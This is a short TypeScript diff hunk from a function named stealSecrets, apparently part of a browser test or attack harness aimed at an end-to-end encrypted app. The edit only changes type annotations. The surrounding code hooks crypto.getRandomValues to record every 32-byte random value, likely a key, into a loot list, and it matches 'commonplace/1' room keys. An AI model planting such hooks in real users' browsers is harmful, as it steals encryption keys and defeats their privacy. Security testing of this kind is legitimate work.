@@ -154,14 +154,14 @@ export const stealSecrets = async (context: BrowserContext): Promise<void> => {
     }
     const toHex = (bytes: Uint8Array): string => Array.from(bytes, (b) => b.toString(16).padStart(2, '0')).join('')
     const random = crypto.getRandomValues.bind(crypto)
-    crypto.getRandomValues = <T extends ArrayBufferView | null>(array: T): T => {
+    crypto.getRandomValues = ((array: ArrayBufferView<ArrayBuffer>) => {
       const filled = random(array)
       if (filled instanceof Uint8Array && filled.length === 32) {
         loot.secrets.push(toHex(filled))
         keep()
       }
       return filled
-    }
+    }) as Crypto['getRandomValues']
     const decoder = new TextDecoder()
     const digest = crypto.subtle.digest.bind(crypto.subtle)
     const roomKey = /^[A-Za-z0-9_-]{43}:commonplace\/1:([A-Za-z0-9_-]{43})$/
